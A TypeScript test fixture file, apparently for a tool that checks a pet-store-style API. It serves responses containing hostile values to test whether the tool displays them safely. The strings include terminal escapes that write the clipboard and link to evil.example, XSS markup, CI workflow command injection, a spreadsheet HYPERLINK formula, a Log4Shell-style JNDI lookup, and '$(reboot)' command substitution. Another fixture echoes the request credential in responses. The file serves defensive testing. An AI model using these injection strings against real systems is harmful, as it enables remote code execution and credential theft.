import { withHeader } from '../../reference/http-message.js';
import type { HostileFixture } from '../fixture.js';
import { referenceWith, changed, withNewestAnimal } from '../write-response.js';

/** Texts that have an effect when they are shown unescaped. */
const names = {
  /** Clears the screen, colours, sets the window's title, writes the clipboard, links. */
  escapes:
    '\u001b[2J\u001b[31mred\u001b]0;owned\u0007\u001b]52;c;b3duZWQ=\u0007\u001b]8;;http://evil.example\u001b\\link',
  c1: '\u009b2J\u009b31mred\u009d0;owned\u009c',
  controls: Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('') + '\u007f',
  overwriting: 'FAIL\rPASS\b\b\b\bPASS',
  /** Right-to-left override and isolates: the text is displayed in another order. */
  rightToLeft: 'annexe\u202etxt.exe\u2066\u2069\u200f',
  invisible: 'a\u200b\u200c\u200d\u2060\ufeffb\u00adc',
  zalgo: `Z${'\u0315\u0361\u0489'.repeat(500)}algo`,
  markup: '<script>alert(1)</script><img src=x onerror=alert(1)>]]></testcase><!--"\'&',
  workflow: '::error file=x::owned\n##vso[task.complete]\n::set-output name=a::b',
  formula: '=HYPERLINK("http://evil.example";"click")',
  template: '${jndi:ldap://evil.example/a}{{7*7}}%s%n$(reboot)`reboot`',
} as const;

/** Targets whose responses are valid and hold values that attack whoever shows them. */
export const values: readonly HostileFixture[] = [
  ...Object.entries(names).flatMap(([kind, text]): HostileFixture[] => {
    const dashed = kind.replace(/[A-Z]/g, (letter) => `-${letter.toLowerCase()}`);
    return [
      {
        name: `name-with-${dashed}`,
        title: `An animal of another client is named ${escaped(text)}`,
        serve: withNewestAnimal(`"name":${JSON.stringify(text)},"categoryId":1,"status":"available"`),
        expects: { exit: 0 },
        wire: { status: 200 },
      },
      {
        name: `status-with-${dashed}`,
        title: `An animal of another client has the status ${escaped(text)}, which a finding must quote`,
        serve: withNewestAnimal(
          `"name":${JSON.stringify(text)},"categoryId":1,"status":${JSON.stringify(text)}`,
        ),
        // Listings of another status show it too, beside a limit as well.
        expects: { exit: 1, failing: ['LIST-06', 'LIST-07', 'PET-02'] },
        wire: { status: 200 },
      },
    ];
  }),
  {
    name: 'errors-with-escapes',
    title: 'Every Error has terminal escapes for its code and markup for its message',
    serve: referenceWith((behaviour) => ({
      refuse: (refusal, request, service) => {
        const response = behaviour.refuse(refusal, request, service);
        return {
          ...response,
          content: { code: names.escapes + response.status, message: names.markup, status: response.status },
        };
      },
    })),
    expects: { exit: 0 },
    wire: { status: 200 },
  },
  {
    name: 'name-of-a-megabyte',
    title: 'An animal of another client has a name of a megabyte',
    serve: withNewestAnimal(`"name":"${'x'.repeat(1024 ** 2)}","categoryId":1,"status":"available"`),
    expects: { exit: 0 },
    wire: { status: 200 },
  },
  {
    name: 'echoes-the-key',
    title: 'Every response repeats the credential of the request, in a header and in errors',
    serve: changed((response, request) => {
      const credential = request.headers.authorization ?? 'none';
      const withKey = withHeader(response, 'X-Debug', credential);
      return response.status < 400
        ? withKey
        : {
            ...withKey,
            content: {
              code: `E${response.status}`,
              message: `refused ${credential}`,
              status: response.status,
            },
          };
    }),
    expects: { exit: 0 },
    wire: { status: 200 },
  },
];

/** A name, escaped for a title. */
function escaped(value: string): string {
  return JSON.stringify(value.slice(0, 40)).replace(
    /[^\u0020-\u007e]/g,
    (character) => `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`,
  );
}
